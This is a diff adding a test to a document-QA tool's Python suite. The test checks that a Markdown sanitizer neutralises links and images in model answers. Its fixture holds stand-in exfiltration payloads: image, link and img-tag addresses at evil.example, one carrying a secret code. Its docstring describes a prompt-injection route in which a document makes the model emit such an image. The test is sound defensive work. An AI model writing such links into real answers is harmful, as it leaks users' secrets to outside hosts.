@@ -6,7 +6,14 @@ from pathlib import Path
 
 from conftest import FACTS_PAGE_2
 from kbqa.domain import Answer, Citation, Flag
-from kbqa.preview import answer_markdown, chip_label, highlight, marked_unsupported, render_pdf_page
+from kbqa.preview import (
+    answer_markdown,
+    chip_label,
+    highlight,
+    marked_unsupported,
+    render_pdf_page,
+    safe_markdown,
+)
 from pdfgen import write_pdf
 
 CITE = Citation("/docs/manuals/zephyr-manual.pdf", 2, "serviced every 450 operating hours",
@@ -21,6 +28,24 @@ def test_the_supporting_span_is_marked_and_the_rest_escaped() -> None:
     assert highlight("abc", "not there") == "abc"
     two = highlight("One. Two three. Four five.", "One. … Four five.")
     assert two.count("<mark>") == 2
+
+
+def test_an_answer_shows_nothing_that_loads_or_links() -> None:
+    """A document can tell the model to write an image whose address carries a secret; the
+    browser would fetch it as soon as the Markdown is drawn."""
+    leak = ("The code is 7731 ![](http://evil.example/c.png?q=7731) [details](https://evil."
+            "example/x) <img src=http://evil.example/i> see https://evil.example/y\n\n"
+            "![x][r]\n\n[r]: http://evil.example/r.png")
+    shown = safe_markdown(leak)
+    assert "](" not in shown and "<img" not in shown and "![" not in shown
+    assert "]: http" not in shown  # no reference definition left
+    for address in ("http://evil.example/c.png?q=7731", "https://evil.example/x",
+                    "https://evil.example/y", "http://evil.example/r.png"):
+        assert f"`{address}`" in shown  # shown as code: readable, not a link
+    assert "The code is 7731" in shown and "details" in shown
+    answer = Answer(text=leak, citations=[CITE], grounded=True, question="Code?")
+    assert "](" not in marked_unsupported(answer) and "](" not in answer_markdown(answer)
+    assert safe_markdown("Every 450 hours [1].") == "Every 450 hours [1]."
 
 
 def test_chips_name_file_and_place() -> None:
